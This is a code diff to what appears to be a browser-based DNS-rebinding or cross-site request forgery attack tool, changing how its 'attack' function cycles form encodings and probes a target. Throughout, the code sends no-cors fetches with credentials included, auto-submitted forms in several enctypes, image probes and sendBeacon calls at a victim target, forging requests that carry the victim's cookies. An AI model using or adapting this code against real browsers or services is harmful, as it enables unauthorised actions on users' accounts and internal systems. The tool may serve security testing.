@@ -43,7 +43,7 @@ export async function rebind(tab, origin, attacks) {
 async function attack({ attacks, target }) {
   const read = [];
   const LONGEST_MS = 5000;
-  const enctypes = ['application/x-www-form-urlencoded', 'multipart/form-data'];
+  const enctypes = ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data'];
   const settled = (element, events) => new Promise((resolve) => {
     for (const event of events) element.addEventListener(event, resolve, { once: true });
     setTimeout(resolve, LONGEST_MS);
@@ -88,9 +88,7 @@ async function attack({ attacks, target }) {
         ask('fetch no-cors', which, { mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, credentials: 'include' }),
         ask('fetch no-cors of no type', { ...which, body: new Blob([body ?? '']) }, { mode: 'no-cors', credentials: 'include' }),
         submit(which, enctypes[i % enctypes.length], i),
-        submit(which, 'text/plain', i),
-      ] : []),
-      show(element('img', { src: target + path, alt: '' }), ['load', 'error']),
+      ] : [show(element('img', { src: target + path, alt: '' }), ['load', 'error'])]),
     ]);
     navigator.sendBeacon(target + path, body ?? '');
     navigator.sendBeacon(target + path, new Blob([body ?? ''], { type: 'application/json' }));
